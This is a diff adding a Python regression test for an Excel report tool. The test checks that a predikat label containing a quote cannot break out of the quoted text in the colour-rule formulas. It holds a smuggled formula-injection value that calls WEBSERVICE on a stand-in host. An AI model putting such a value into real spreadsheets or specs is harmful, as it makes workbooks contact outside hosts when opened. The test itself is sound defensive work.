@@ -269,3 +269,34 @@ def test_a_typed_realisation_keeps_two_decimals_when_one_is_shown() -> None:
     )
     assert indicator_decimals(rows, settings).tolist() == [2, 2, 0]
     assert fmt.angka_presisi(0.68, 2) == "0,68"
+
+
+def test_a_predikat_label_with_a_quote_stays_text_in_the_colour_rules(tmp_path: Path) -> None:
+    """The predikat colours compare each cell with its band's label as a quoted text: a label
+    of the spec holding ``"`` (``label_predikat`` = ``X"&WEBSERVICE("http://…")&";…``) closed
+    that text, and every predikat column of the workbook carried a formula Excel computes on
+    opening, calling that address. Each compared text is now one quoted text."""
+    spec = tmp_path / "spec.xlsx"
+    wb = openpyxl.load_workbook(SPEC_PATH)
+    ws = wb["pengaturan"]
+    ws.append(
+        [
+            "label_predikat",
+            'X"&WEBSERVICE("http://contoh.invalid/")&";Tinggi;Sedang;Rendah;Sangat Rendah',
+        ]
+    )
+    ws.cell(ws.max_row, 2).data_type = "s"
+    wb.save(spec)
+    out = tmp_path / "out"
+    result = run_report(copy_inputs(tmp_path), out, spec=spec)
+    assert result.returncode == 0, result.stderr
+    with zipfile.ZipFile(next(out.glob("*_konsolidasi.xlsx"))) as zf:
+        formulas = [
+            f.replace("&amp;", "&").replace("&quot;", '"')
+            for name in zf.namelist()
+            if name.startswith("xl/worksheets/sheet")
+            for f in re.findall(r"<formula>([^<]*)</formula>", zf.read(name).decode())
+        ]
+    assert any("contoh.invalid" in f for f in formulas)
+    for formula in formulas:
+        assert re.fullmatch(r'"(?:[^"]|"")*"', formula), formula
